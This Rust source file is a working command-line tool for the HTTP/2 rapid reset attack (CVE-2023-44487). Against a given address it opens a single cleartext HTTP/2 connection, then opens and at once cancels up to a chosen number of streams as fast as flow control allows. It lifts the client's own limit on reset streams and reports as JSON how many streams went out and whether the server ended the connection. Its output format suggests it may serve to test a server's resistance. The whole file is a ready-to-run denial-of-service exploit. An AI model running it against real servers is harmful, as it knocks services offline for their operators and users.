//! HTTP/2 rapid reset (CVE-2023-44487) as an attacker runs it: `h2-rapid-reset ADDR AUTHORITY
//! STREAMS`. One h2c connection; as fast as the server's flow lets it, a stream is opened (a
//! GET's HEADERS) and reset at once (RST_STREAM CANCEL), STREAMS times. Prints JSON: the streams
//! sent before the server ended the connection, and how it ended (its GOAWAY reason, or "open"
//! when every stream went and the connection still stands).

use std::time::{Duration, Instant};

use h2::Reason;
use tokio::net::TcpStream;

fn main() -> anyhow::Result<()> {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let [addr, authority, streams] = args.as_slice() else {
        anyhow::bail!("usage: h2-rapid-reset ADDR AUTHORITY STREAMS")
    };
    let streams: u64 = streams.parse()?;
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()?;
    rt.block_on(async {
        let tcp = TcpStream::connect(addr.as_str()).await?;
        tcp.set_nodelay(true)?;
        let (mut client, conn) = h2::client::Builder::new()
            // Keep every locally reset stream's state: the attacker does not care.
            .max_concurrent_reset_streams(usize::MAX / 2)
            .handshake::<_, bytes::Bytes>(tcp)
            .await?;
        let driver = tokio::spawn(conn);
        let started = Instant::now();
        let mut sent = 0u64;
        let mut ended = "open".to_string();
        while sent < streams {
            let ready = tokio::time::timeout(Duration::from_secs(5), client.ready()).await;
            client = match ready {
                Ok(Ok(c)) => c,
                Ok(Err(e)) => {
                    ended = reason(&e);
                    break;
                }
                Err(_) => {
                    ended = "stalled".into();
                    break;
                }
            };
            let req = hyper::Request::get(format!("http://{authority}/rapid-reset"))
                .body(())?;
            match client.send_request(req, false) {
                Ok((_response, mut stream)) => stream.send_reset(Reason::CANCEL),
                Err(e) => {
                    ended = reason(&e);
                    break;
                }
            }
            sent += 1;
            if sent.is_multiple_of(50) {
                // A breath for the connection's driver: it reads what the server says (a GOAWAY)
                // instead of only queueing more.
                tokio::time::sleep(Duration::from_millis(1)).await;
            }
        }
        if ended == "open" {
            // Let the server answer the burst; a GOAWAY then ends the driver.
            if let Ok(Ok(Err(e))) = tokio::time::timeout(Duration::from_secs(2), driver).await {
                ended = reason(&e);
            }
        }
        println!(
            "{}",
            serde_json::json!({"sent": sent, "ended": ended, "secs": started.elapsed().as_secs_f64()})
        );
        Ok(())
    })
}

fn reason(e: &h2::Error) -> String {
    match e.reason() {
        Some(r) => format!("{r:?}"),
        None => e.to_string(),
    }
}
